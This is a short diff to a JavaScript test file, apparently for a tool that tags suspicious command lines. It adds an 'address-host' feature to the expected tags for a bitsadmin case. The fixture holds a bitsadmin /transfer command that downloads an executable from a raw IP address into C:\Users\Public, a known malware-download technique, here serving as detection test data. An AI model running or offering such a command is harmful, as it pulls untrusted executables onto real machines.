@@ -7,7 +7,7 @@ describe('bitsadmin', () => {
       'bitsadmin /transfer job7 http://10.1.2.3/a.exe C:\\Users\\Public\\a.exe',
       'bitsadmin /transfer <job> http://<ip>/*.exe <public>\\a.exe',
       'bitsadmin|transfer|url|exe',
-      ['remote-url', 'download', 'public-folder'],
+      ['remote-url', 'address-host', 'download', 'public-folder'],
       null,
     ],
     [
